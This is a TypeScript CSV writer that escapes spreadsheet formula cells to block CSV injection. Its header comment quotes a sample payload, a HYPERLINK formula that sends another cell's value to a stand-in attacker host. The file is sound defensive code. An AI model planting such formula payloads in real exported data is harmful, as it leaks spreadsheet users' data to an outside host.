/*
 * RFC 4180 CSV: CRLF line ends, a field quoted when it holds a quote, comma, CR or LF.
 *
 * A cell starting with `=`, `+`, `-`, `@`, a tab or a CR is a formula to Excel, LibreOffice
 * and Sheets, and names come from anyone who may edit the graph: a Shot named
 * `=HYPERLINK("https://evil.example/?"&B2,"Open")` would run in a teammate's spreadsheet
 * (CSV injection). Such a cell gets a leading `'` (OWASP's advice), which every one of them
 * shows as text; a plain number such as `-12.5` is left alone.
 */
const FORMULA_START = /^[=+\-@\t\r]/;
const NUMBER = /^[+-]?\d+(?:\.\d+)?$/;

const neutral = (value: string): string => (FORMULA_START.test(value) && !NUMBER.test(value) ? `'${value}` : value);
const field = (text: string): string => {
  const value = neutral(text);
  return /[",\r\n]/.test(value) ? `"${value.replace(/"/g, '""')}"` : value;
};

const BOM = '\uFEFF';

/**
 * Rows → CSV bytes: UTF-8 with a byte-order mark (so Excel reads accents), every line
 * (the last too) ended by CRLF.
 */
export const writeCsv = (rows: readonly (readonly string[])[]): Uint8Array =>
  new TextEncoder().encode(BOM + rows.map((row) => `${row.map(field).join(',')}\r\n`).join(''));
